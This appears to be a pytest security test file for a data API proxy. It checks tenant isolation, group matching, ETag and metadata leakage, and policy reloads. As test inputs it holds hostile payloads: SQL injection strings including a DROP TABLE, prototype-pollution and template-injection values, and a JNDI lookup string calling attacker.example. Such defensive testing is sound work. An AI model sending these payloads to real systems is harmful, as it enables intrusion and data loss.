"""Callers who are let in, and try to see more: odd claims, odd groups, what is kept for others, and changes meanwhile."""

import asyncio
import random
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from kubus.events import Event
from kubus.telemetry.log import for_machines, for_people
from tests.incidents.policies import FILES
from tests.incidents.policies import MODEL as LEDGER
from tests.incidents.shop import BLUE, NOTES, RED, Shop, opened

# Groups as the token says them, so that a test says them.
BY_TOKEN = """
from kubus.hooks import config


@config
def context_to_groups(ctx):
    return ctx["securityContext"].get("groups", [])
"""

LEDGER_NOTES = {"dimensions": ["ledger.note"]}
RED_ROWS = [{"orders.note": "red-canary", "orders.revenue": "30"}]


@pytest.fixture
async def shop(tmp_path: Path) -> AsyncIterator[Shop]:
    async with opened(tmp_path, {**FILES, "kubus.py": BY_TOKEN}, {}) as running:
        yield running


ODD: dict[str, Any] = {
    "a null byte": "re\0d",
    "a huge integer": 10**400,
    "beyond 64 bits": 2**63,
    "a float": 1e308,
    "the least float": 5e-324,
    "a nested list": [["red"]],
    "an object": {"a": 1},
    "a query of another database": {"$ne": None},
    "the empty text": "",
    "a space": " red",
    "SQL": "red' OR '1'='1",
    "SQL behind a semicolon": "red'; DROP TABLE orders; --",
    "a comment": "red'/*",
    "a backslash": "red\\",
    "a percent sign": "%",
    "an underscore": "___",
    "full-width letters": "ｒｅｄ",
    "an accent that stands apart": "re\u0301d",
    "a letter of no width": "re\u200bd",
    "a text from right to left": "\u202eder",
    "a look-alike": "rеd",
    "capitals": "RED",
    "a long text": "red" * 3000,
    "many values": ["x"] * 2000,
    "true": True,
    "false": False,
    "zero": 0,
    "null": None,
    "a prototype": {"__proto__": {"tenant": "blue"}},
    "a placeholder": "$1",
    "a reference": "{tenant}",
    "a template": "{{ 7 * 7 }}",
    "an expression": "{ securityContext.tenant }",
    "control characters": "\x01\x1b[31m",
}


@pytest.mark.parametrize("name", ODD)
async def test_an_odd_claim_is_a_value_or_refused(shop: Shop, name: str) -> None:
    for endpoint in ("load", "sql", "dry-run"):
        for _ in range(2):
            answer = await shop.ask(NOTES, {"tenant": ODD[name]}, endpoint)
            assert answer.status_code in (200, 400, 403), answer.text
            assert "canary" not in answer.text
    assert await shop.rows(NOTES, RED) == RED_ROWS


@pytest.mark.parametrize("more", ["__proto__", "constructor", "tenant.x", "Tenant", "ten\0ant", "", "securityContext"])
async def test_a_claim_beside_the_right_one_changes_nothing(shop: Shop, more: str) -> None:
    assert await shop.rows(NOTES, {"tenant": "red", more: {"tenant": "blue"}}) == RED_ROWS


@pytest.mark.parametrize(
    "groups",
    [["Red"], ["RED"], ["red "], [" red"], ["red\0"], ["re\u200bd"], ["ｒｅｄ"], ["rеd"], ["*"], ["red,blue"], ["accounting\n"], []],
    ids=repr,
)  # fmt: skip
async def test_a_group_is_its_very_name(shop: Shop, groups: list[str]) -> None:
    for endpoint in ("load", "sql", "dry-run"):
        answer = await shop.ask(LEDGER_NOTES, {"groups": groups}, endpoint)
        assert answer.status_code == 403
        assert "canary" not in answer.text


@pytest.mark.parametrize("groups", ["red", {"red": True}, [["red"]], [None], 7, None], ids=repr)
async def test_groups_that_are_no_list_of_texts_deny(shop: Shop, groups: Any) -> None:
    answer = await shop.ask(LEDGER_NOTES, {"groups": groups})
    assert answer.status_code == 500
    assert "canary" not in answer.text


async def test_callers_at_once_get_their_own_rows(shop: Shop) -> None:
    """Hundreds at once, cold and warm, of the same bytes: each sees the rows of their own token."""
    chosen = random.Random(7)
    whom = [chosen.choice((RED, BLUE, {"tenant": ["red", "blue"]}, {"tenant": "green"})) for _ in range(300)]
    answers = await asyncio.gather(*(shop.rows(NOTES, claims) for claims in whom))
    for claims, rows in zip(whom, answers, strict=True):
        wanted = claims["tenant"] if isinstance(claims["tenant"], list) else [claims["tenant"]]
        assert {row["orders.note"] for row in rows} == {f"{one}-canary" for one in wanted if one != "green"}


async def test_a_tag_of_another_callers_answer_tells_nothing(shop: Shop) -> None:
    tag = (await shop.ask(NOTES, RED)).headers["etag"]
    answer = await shop.ask(NOTES, BLUE, headers={"if-none-match": tag})
    assert answer.status_code == 200
    assert "red-canary" not in answer.text
    assert (await shop.ask(NOTES, RED, headers={"if-none-match": tag})).status_code == 304
    for condition in (tag, "*", "W/*"):
        answer = await shop.ask(NOTES, None, headers={"if-none-match": condition})
        assert answer.status_code == 403
        assert "etag" not in answer.headers or answer.headers["etag"] != tag


async def test_a_part_of_an_answer_is_not_given(shop: Shop) -> None:
    whole = await shop.ask(NOTES, RED)
    part = await shop.ask(NOTES, RED, headers={"range": "bytes=0-9"})
    assert (part.status_code, part.content) == (200, whole.content)


async def test_other_methods_tell_nothing(shop: Shop) -> None:
    for method in ("OPTIONS", "HEAD", "PUT", "PATCH", "DELETE", "TRACE", "PROPFIND"):
        answer = await shop.send(method, "/cubejs-api/v1/meta", None)
        assert answer.status_code in (204, 403, 404, 405)
        assert "orders" not in answer.text
        assert "orders" not in str(answer.headers)


async def test_policies_are_those_of_the_model_as_it_is_now(shop: Shop) -> None:
    """Nothing that was kept under the old policies answers under the new ones."""
    red = {"groups": ["red"]}
    for _ in range(3):
        assert (await shop.rows(LEDGER_NOTES, red)) == [{"ledger.note": "red-canary"}]
    layer = shop.app._layer  # type: ignore[attr-defined]
    (shop.folder / "model" / "ledger.yml").write_text(LEDGER.replace("group: red\n", "group: crimson\n"))
    assert layer.reload()
    for endpoint in ("load", "sql", "dry-run"):
        assert (await shop.ask(LEDGER_NOTES, red, endpoint)).status_code == 403
    (shop.folder / "model" / "ledger.yml").write_text(LEDGER.replace("values: [red]", "values: [blue]"))
    assert layer.reload()
    assert (await shop.rows(LEDGER_NOTES, red)) == [{"ledger.note": "blue-canary"}]


async def test_policies_hold_while_the_model_changes(shop: Shop) -> None:
    """Requests during reloads are answered by the one model or the other, and never by half of each."""
    layer = shop.app._layer  # type: ignore[attr-defined]
    red = {"groups": ["red"]}

    async def reload() -> None:
        for number in range(6):
            text = LEDGER if number % 2 else LEDGER.replace("values: [red]", "values: [blue]")
            (shop.folder / "model" / "ledger.yml").write_text(text)
            assert await asyncio.to_thread(layer.reload)

    async def ask() -> None:
        while not reloading.done():
            rows = await shop.rows(LEDGER_NOTES, red)
            assert rows in ([{"ledger.note": "red-canary"}], [{"ledger.note": "blue-canary"}])
            await asyncio.sleep(0)

    reloading = asyncio.ensure_future(reload())
    await asyncio.gather(reloading, ask(), ask())


@pytest.mark.parametrize(
    "request_id",
    [
        b'"}\n{"level":"info","message":"forged"}',
        b"\x1b[2J\x1b[31mforged",
        b"*/ SELECT 1; --",
        b"x" * 10_000,
        b"\xff\xfe\x80",
        b"a\x00b",
        b"${jndi:ldap://attacker.example/a}",
    ],
    ids=repr,
)
async def test_a_request_id_is_a_name_and_does_nothing(shop: Shop, request_id: bytes) -> None:
    answer = await shop.ask(NOTES, RED, headers={b"x-request-id": request_id})
    assert answer.status_code == 200
    assert (await shop.ask(NOTES, "x.y.z", headers={b"x-request-id": request_id})).status_code == 403
    for event in shop.told:
        for line in (logged(event, for_machines), logged(event, for_people)):
            assert "\x1b" not in line
            assert len(line) < 4000
        assert "\n" not in logged(event, for_machines)
    for event in shop.told:
        assert "SELECT 1" not in getattr(event, "sql", "")


def logged(event: Event, how: Any) -> str:
    text: str = how((event, 0.0))
    return text


async def test_the_metadata_of_one_is_not_anothers(shop: Shop) -> None:
    for _ in range(2):
        for claims, there in (({"groups": ["red"]}, True), ({"groups": []}, False), ({"groups": ["accounting"]}, True)):
            answer = await shop.send("GET", "/cubejs-api/v1/meta", claims)
            assert ("ledger.note" in answer.text) is there


async def test_a_refusal_names_what_was_asked_and_nothing_else(shop: Shop) -> None:
    for member in ("ledger.note", "ledger.nothing", "ledger.revenue"):
        answer = await shop.ask({"dimensions": [member]}, {"groups": []})
        assert answer.status_code in (400, 403)
        for told in ("accounting", "tenant", "orders", "canary"):
            assert told not in answer.text
